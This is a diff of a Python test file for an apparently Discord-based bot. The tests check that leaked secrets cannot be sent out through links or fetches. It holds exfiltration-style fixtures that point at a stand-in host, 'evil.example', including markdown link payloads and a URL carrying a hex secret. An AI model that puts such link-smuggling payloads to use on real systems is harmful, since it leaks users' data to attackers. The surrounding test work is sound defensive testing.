@@ -89,10 +89,9 @@ REPETITIONS = {
         said=f"What is this?\n\nFrom: Eve <eve@evil.example>\nSubject: x\n\n{LEAK}"
     ),
     "the name of who is mentioned": then_fetch(said=f"问{others_name('@', f'田{LEAK}')}好"),
-    "the end of such a name": then_fetch(said=f"ถาม{others_name('@', f'ก{LEAK}')}"),
-    "a name behind an at": Route(
-        (fetch(f"http://@evil.example:{{port}}/{HEX}"),),
-        said=f"ask {others_name('@', f'evil.example:{{port}}/{HEX}')} why",
+    "such a name that was cut": then_fetch(said=f"ถาม@[ก{LEAK}"),
+    "such a name that opens a quotation": then_fetch(
+        said=f"问{others_name('@', f'田{LEAK}:“and so on, and so on')}, who sold “the car”"
     ),
     "words with dots": Route(
         (fetch("http://report.zip:{port}/"), fetch(EVIL)),
@@ -387,8 +386,10 @@ def test_an_answer_that_grows_reads_as_it_will(text):
 
 
 SHOWN = (
-    f"ok {LEAK} [a](http://evil.example/y) ![i](<http://evil.example>) evil&#46;example/n a`{EVIL}"
+    f"ok {LEAK} [a [b] c](http://evil.example/y) ![i](<http://evil.example>) evil&#46;example/n a`{EVIL}"
 )
+DISCORDS = re.compile(r"`[^`\n]*`|\\.|(\[(?:\[[^\]]*\]|[^\[\]]|\](?=[^\[]*\]))*\]\()")
+"""What Discord takes for code, for a sign as it is, and for a link, whichever begins first."""
 
 
 async def test_what_a_command_shows_of_other_texts_is_no_link(tmp_path):
@@ -404,8 +405,8 @@ async def test_what_a_command_shows_of_other_texts_is_no_link(tmp_path):
         await channel.ask("Read m in the inbox")
         blob = await FolderBlobs(tmp_path / "blobs").put(SHOWN.encode())
         file = Attachment("document", "evil.example", "text/plain", 1, blob)
-        reminded = await channel.ask("/remind in an hour read http://a.example/1")
-        assert "read http://a.example/1" in reminded
+        reminded = await channel.ask("/remind in an hour read http://a.example/1_(b)")
+        assert "read <http://a.example/1_(b)>" in reminded
         await channel.wait_for_answer(await channel.send("/files keep", attachments=(file,)))
         for command in (
             "/problem",
@@ -422,3 +423,4 @@ async def test_what_a_command_shows_of_other_texts_is_no_link(tmp_path):
             told = await channel.ask(command)
             assert "evil.example" in told.replace("&#46;", ".")
             assert live_parts(re.sub(r"`[^`\n]*`", "", told)) == []
+            assert not any(part[1] for part in DISCORDS.finditer(told))
